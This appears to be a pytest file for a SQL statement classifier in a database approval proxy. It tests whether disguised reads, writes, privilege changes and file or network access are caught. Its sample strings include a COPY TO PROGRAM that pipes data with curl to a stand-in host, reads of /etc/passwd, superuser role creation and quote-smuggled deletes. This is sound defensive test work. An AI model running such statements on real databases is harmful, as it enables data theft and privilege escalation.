"""Traps for whoever judges a statement by its first word, each by name."""

import time

import pytest

from approvals.scope import Operation, Scope, covers
from proxy.classify.sql import classify

READ, WRITE, DDL, ADMIN, PATH, UNPARSED = "read", "write", "ddl", "admin", "path", "unparsed"

TRAPS = {
    "plain": ("select 1", {READ}),
    "leading comment": ("/* select */ -- x\n delete from t", {READ, WRITE}),
    "data-modifying CTE": ("with d as (delete from t returning *) select * from d", {READ, WRITE}),
    "data-modifying CTE in a sub-select": (
        "select * from (with d as (insert into t values (1) returning 1) select 1) x",
        {READ, WRITE},
    ),
    "update under WITH": ("with x as (select 1) update t set a = 1", {READ, WRITE}),
    "SELECT INTO": ("select * into copy_of_t from t", {READ, DDL}),
    "SELECT INTO in the second arm of a union": ("select 1 union select 2 into x", {READ, DDL}),
    "row locks": ("select * from t for update", {READ, WRITE}),
    "row locks in a sub-select": ("select (select a from t for share)", {READ, WRITE}),
    "set_config of a role": ("select set_config('role', 'postgres', false)", {READ, ADMIN}),
    "set_config of what is not constant": ("select set_config(a, b, false) from t", {READ, ADMIN}),
    "set_config of a harmless setting, as asyncpg does": ("select set_config('jit', 'off', false)", {READ}),
    "killing a backend": ("select pg_terminate_backend(1)", {READ, ADMIN}),
    "killing a backend, qualified": ("select pg_catalog.pg_terminate_backend(1)", {READ, ADMIN}),
    "large object to a file": ("select lo_export(1, '/tmp/x')", {READ, PATH}),
    "large object": ("select lo_get(1)", {READ, PATH}),
    "dblink": ("select * from dblink('dbname=x', 'delete from t') as t(a int)", {READ, PATH}),
    "reading a server file": ("select pg_read_server_files()", {READ, PATH}),
    "reading a file": ("select pg_read_file('/etc/passwd')", {READ, PATH}),
    "SQL in a string": ("select query_to_xml('delete from t', true, true, '')", {READ, UNPARSED}),
    "table in a string": ("select table_to_xml('t', true, true, '')", {READ, UNPARSED}),
    "sequence": ("select nextval('s')", {READ, WRITE}),
    "advisory lock": ("select pg_advisory_lock(1)", {READ, WRITE}),
    "function of the store's own": ("select clean_up()", {READ, WRITE}),
    "function of the store's own, in FROM": ("select * from app.report(1)", {READ, WRITE}),
    "function of the store's own, planned only": ("explain select clean_up()", {READ, WRITE}),
    "operator of the store's own": ("select 1 operator(app.+) 2", {READ, WRITE}),
    "copy out": ("copy t to stdout", {READ}),
    "copy of a query that writes": ("copy (delete from t returning *) to stdout", {READ, WRITE}),
    "copy in": ("copy t from stdin", {WRITE}),
    "copy to a program": ("copy (select 1) to program 'curl -d @- evil.example'", {READ, PATH}),
    "copy from a program": ("copy t from program 'id'", {WRITE, PATH}),
    "copy to a file": ("copy t to '/tmp/x'", {READ, PATH}),
    "explain of a write": ("explain delete from t", {READ}),
    "explain analyze of a write": ("explain analyze delete from t", {READ, WRITE}),
    "explain with analyze among options": ("explain (costs off, analyze) update t set a = 1", {READ, WRITE}),
    "anonymous code": ("do $$ begin execute 'drop table t'; end $$", {UNPARSED}),
    "procedure": ("call clean_up()", {WRITE}),
    "prepare of a write": ("prepare p as delete from t", {READ, WRITE}),
    "cursor over a function": ("declare c cursor for select clean_up()", {READ, WRITE}),
    "begin": ("begin", set()),
    "begin read write": ("begin read write", {WRITE}),
    "start transaction read write": ("start transaction isolation level serializable, read write", {WRITE}),
    "begin read only": ("begin read only", set()),
    "set transaction read write": ("set transaction read write", {WRITE}),
    "set session characteristics": ("set session characteristics as transaction read write", {WRITE}),
    "set default_transaction_read_only": ("set default_transaction_read_only = off", {WRITE}),
    "set transaction_read_only by number": ("set transaction_read_only = 0", {WRITE}),
    "two-phase commit": ("prepare transaction 'x'", {WRITE}),
    "set role": ("set role postgres", {ADMIN}),
    "set session authorization": ("set session authorization postgres", {ADMIN}),
    "custom setting that a policy may read": ("set app.tenant = '7'", {ADMIN}),
    "harmless settings": ("set application_name = 'psql'", set()),
    "planner settings": ("set enable_seqscan = off", set()),
    "merge": ("merge into t using u on true when matched then delete", {READ, WRITE}),
    "insert of values": ("insert into t values (1)", {WRITE}),
    "insert returning": ("insert into t values (1) returning *", {READ, WRITE}),
    "truncate": ("truncate t", {WRITE}),
    "lock": ("lock table t", {WRITE}),
    "notify": ("notify c, 'x'", {WRITE}),
    "listen": ("listen c", {READ}),
    "create table": ("create table t (a int)", {DDL}),
    "create table as": ("create table t as select * from u", {READ, DDL}),
    "temporary table": ("create temp table t (a int)", {DDL}),
    "default that calls code": ("create table t (a int default clean_up())", {WRITE, DDL}),
    "function": ("create function f() returns int security definer language sql as 'select 1'", {PATH}),
    "trigger": ("create trigger t before insert on t for each row execute function f()", {PATH}),
    "rule": ("create rule r as on insert to t do also delete from u", {READ, WRITE, PATH}),
    "grant": ("grant all on t to public", {PATH}),
    "role": ("create role x login superuser password 'x'", {PATH}),
    "policy": ("create policy p on t using (true)", {PATH}),
    "grant inside a schema": ("create schema s grant all on t to public", {DDL, PATH}),
    "subscription": ("create subscription s connection 'x' publication p", {PATH}),
    "foreign server": ("create server s foreign data wrapper postgres_fdw", {PATH}),
    "extension": ("create extension dblink", {PATH}),
    "owner": ("alter table t owner to x", {DDL}),
    "alter system": ("alter system set ssl = off", {ADMIN}),
    "load": ("load 'x'", {ADMIN}),
    "vacuum": ("vacuum full", {ADMIN}),
    "dollar quotes": ("select $a$'; delete from t; --$a$", {READ}),
    "unicode string": ("select U&'\\0027; delete from t'", {READ}),
    "escape string": ("select E'\\'; delete from t; --'", {READ}),
    "nested comment": ("select 1 /* /* */ ; delete from t */", {READ}),
}


@pytest.mark.parametrize("name", TRAPS)
def test_trap(name: str) -> None:
    text, actions = TRAPS[name]
    (statement,) = classify(text).statements
    assert set(statement.actions) == actions


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("select 1; drop table t", ["SELECT", "DROP"]),
        ("commit; create table t (a int)", ["COMMIT", "CREATE TABLE"]),  # the way out of BEGIN READ ONLY
        ("; ; select 1 ;; ", ["SELECT"]),
        ("-- only a comment", []),
        ("", []),
    ],
)
def test_every_statement_of_a_text_is_seen(text: str, commands: list[str]) -> None:
    assert [statement.command for statement in classify(text).statements] == commands


def test_the_parts_of_a_text_cover_it_without_a_gap() -> None:
    text = "/* ä */ select 'é'; -- between\n select 2 ; /* end */"
    statements = classify(text).statements
    data = text.encode()
    assert b"".join(data[s.start : s.end] for s in statements) == data


TABLES = {
    "schema as written": ("select * from app.t", {"app.t"}),
    "default schema": ("select * from t", {"public.t"}),
    "the catalog comes first": ("select * from pg_class", {"pg_catalog.pg_class"}),
    "a CTE is no table": ("with t as (select * from u) select * from t", {"public.u"}),
    "a CTE does not see itself": ("with t as (select * from t) select 1", {"public.t"}),
    "a recursive CTE sees itself": ("with recursive t as (select 1 union select * from t) select * from t", set()),
    "a CTE is not seen outside": ("select * from (with t as (select 1) select * from t) x, t", {"public.t"}),
    "a CTE is never a target": ("with t as (select 1) insert into t select * from t", {"public.t"}),
    "an earlier CTE is seen": ("with a as (select 1), b as (select * from a) select * from b", set()),
    "sub-selects everywhere": (
        "select (select 1 from a), exists (select from b) from c where d in (select 1 from e) "
        "order by (select 1 from f)",
        {"public.a", "public.b", "public.c", "public.e", "public.f"},
    ),
    "lateral and joins": (
        "select * from a join b on true, lateral (select * from c) x",
        {"public.a", "public.b", "public.c"},
    ),
    "update from": ("update a set x = 1 from b where exists (select 1 from c)", {"public.a", "public.b", "public.c"}),
    "quoted": ('select * from "My Schema"."T"', {"My Schema.T"}),
    "sampled": ("select * from t tablesample system (1)", {"public.t"}),
    "search_path": ("set search_path = app, other", {"app.*", "other.*"}),
    "code may touch anything": ("select clean_up() from t", {"public.t", "*"}),
    "a drop does not name all it touches": ("drop table t cascade", {"*"}),
}


@pytest.mark.parametrize("name", TABLES)
def test_resources(name: str) -> None:
    text, resources = TABLES[name]
    (statement,) = classify(text).statements
    assert set(statement.resources()) == resources


def test_an_unqualified_name_may_stand_in_any_schema_of_the_search_path() -> None:
    (statement,) = classify("select * from t").statements
    assert statement.resources(("public", "app")) == ("public.t", "app.t")


@pytest.mark.parametrize(
    "text",
    [
        "select clean_up()",
        "drop table orders",
        "select 1",
        "select query_to_xml('select * from secrets', true, true, '')",
        "call anything()",
        "listen c",
    ],
)
def test_a_narrow_scope_never_covers_what_it_cannot_see(text: str) -> None:
    scope = Scope("s", ("read", "write", "ddl", "unparsed"), ("public.orders",))
    (statement,) = classify(text).statements
    assert covers(scope, Operation(statement.actions, statement.resources())) == "resource"


@pytest.mark.parametrize(
    "text",
    [
        "set client_encoding = 'LATIN1'",
        "set names 'SJIS'",
        "set standard_conforming_strings = off",
        "set local standard_conforming_strings to false",
        "select set_config('standard_conforming_strings', 'off', false)",
        "select set_config('client_encoding', $1, false)",
    ],
)
def test_lexer_settings_are_forbidden_whatever_the_grant_says(text: str) -> None:
    assert "pinned" in classify(text).statements[0].forbidden


def test_harmless_spellings_of_them_are_not() -> None:
    for text in ("set client_encoding = 'utf-8'", "set names 'UTF8'", "set standard_conforming_strings = on"):
        assert classify(text).statements[0].forbidden == ""


def test_verdicts_are_never_shared_by_fingerprint() -> None:
    """The fingerprint of READ ONLY and READ WRITE is the same."""
    only, write = classify("begin read only"), classify("begin read write")
    assert only.fingerprint == write.fingerprint
    assert only.statements[0].actions != write.statements[0].actions


FAULTS = {
    "not SQL": ("selct 1", "syntax"),
    "two spellings of a BOM": ("\ufeffselect 1", "syntax"),
    "syntax newer than the grammar": (
        "select old.*, new.* from (update t set a = 1 returning with (old as o) o.*) x",
        "syntax",
    ),
    "too long": ("select '" + "x" * 16384 + "'", "too_long"),
    "too many statements": ("select 1;" * 65, "too_long"),
    "comments nested in comments": ("select " + "/*" * 4000 + "*/" * 4000 + "1", "too_deep"),
    "an endless operator": ("select 1 " + "+-" * 8000 + " 1", "too_deep"),
    "parentheses": ("select " + "(" * 10003 + "1", "syntax"),
    "sub-selects": ("select " + "(select " * 1700 + "1" + ")" * 1700, "too_deep"),
    "sums": ("select 1" + "+1" * 8000, "too_deep"),
}


@pytest.mark.parametrize("name", FAULTS)
def test_what_is_not_understood_is_unparsed_and_costs_little(name: str) -> None:
    text, fault = FAULTS[name]
    started = time.process_time()
    classified = classify(text)
    assert time.process_time() - started < 0.25
    assert classified.fault == fault
    assert classified.statements[0].actions == ("unparsed",)
    assert classified.statements[0].resources() == ("*",)


def test_what_tools_ask_of_the_catalog_reads() -> None:
    texts = [
        "select n.nspname, c.relname, pg_catalog.pg_get_userbyid(c.relowner) from pg_catalog.pg_class c "
        "left join pg_catalog.pg_namespace n on n.oid = c.relnamespace where pg_catalog.pg_table_is_visible(c.oid)",
        "select pg_catalog.format_type(a.atttypid, a.atttypmod), pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) "
        "from pg_catalog.pg_attribute a, pg_catalog.pg_attrdef d",
        "select current_schema(), version(), current_setting('server_version_num'), pg_backend_pid()",
        "select * from information_schema.columns",
        "select pg_size_pretty(pg_total_relation_size('t'))",
        "show transaction_read_only",
    ]
    for text in texts:
        assert set(classify(text).statements[0].actions) <= {"read"}, text
